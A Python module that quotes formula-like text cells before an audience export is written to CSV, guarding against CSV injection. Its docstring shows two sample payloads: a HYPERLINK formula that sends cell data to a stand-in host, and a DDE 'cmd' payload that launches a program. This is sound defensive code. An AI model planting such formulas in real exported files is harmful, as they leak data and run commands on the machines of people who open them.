"""Text cells a spreadsheet would run as formulas, quoted before an audience goes out as CSV.

An exported audience is opened in Excel or WPS and uploaded to ad and CRM tools, and its text comes
from the shop's data: user and item ids, city and other attributes, tag values from SQL tags and id
lists. A cell such as ``=HYPERLINK("http://x/?"&A1)`` or ``@SUM(1+1)*cmd|' /C calc'!A0`` is run as a
formula when the file is opened (CSV injection, CWE-1236). As OWASP advises, a text cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``, which spreadsheets
show as text; a cell that is a plain number (``-5``, ``+3.2``) is left as it is. Parquet keeps values
as they are.
"""

from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def formula_like(value: object) -> bool:
    """Whether a cell's text would be read as a formula by a spreadsheet."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _is_number(value)


def quote_formulas(frame: pd.DataFrame) -> tuple[pd.DataFrame, int]:
    """A copy of ``frame`` with every formula-like text cell prefixed by ``'``, and how many were."""
    out = frame.copy()
    count = 0
    for col in out.columns:
        if out[col].dtype != object and not pd.api.types.is_string_dtype(out[col]):
            continue
        values = out[col].tolist()
        flags = [formula_like(v) for v in values]
        if any(flags):
            out[col] = pd.Series([f"'{v}" if f else v for v, f in zip(values, flags, strict=True)], index=out.index,
                                 dtype=object)
            count += sum(flags)
    return out, count
